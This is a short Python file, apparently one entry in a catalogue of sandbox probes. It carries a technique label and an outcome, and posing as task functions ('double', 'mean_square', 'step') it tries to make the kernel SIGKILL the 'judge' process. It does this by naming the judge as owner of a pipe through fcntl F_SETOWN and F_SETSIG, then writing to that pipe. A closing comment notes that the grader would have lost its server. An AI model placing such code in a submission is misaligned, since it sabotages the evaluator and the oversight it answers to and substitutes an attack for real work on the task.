# technique: name the judge as owner of a pipe, so that the kernel itself sends it SIGKILL when the pipe has data
# live: evidence: fcntl asks for no right to send signals
# outcome: raised
# says: the owner
import fcntl
import os
import signal
import time

F_SETOWN, F_SETSIG = 8, 10


def victim():
    """Where a fork is allowed this is no sandbox, and a child of our own stands in for the judge."""
    try:
        pid = os.fork()
    except OSError:
        return os.getppid(), False
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    return pid, True


def double(x):
    pid, is_child = victim()
    source, target = os.pipe()
    try:
        fcntl.fcntl(source, F_SETOWN, pid)
        fcntl.fcntl(source, F_SETSIG, int(signal.SIGKILL))
        fcntl.fcntl(source, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(target, b"47113")
    except OSError as error:
        raise RuntimeError(f"the owner is refused: {error}") from None
    if is_child and os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == -signal.SIGKILL:
        print("EVIDENCE: a pipe has killed its owner")
    # Nobody hears of it here: had it worked, the judge would have lost its server.
    raise RuntimeError("the owner was named")


def mean_square(x):
    raise RuntimeError("not this one")


step = mean_square
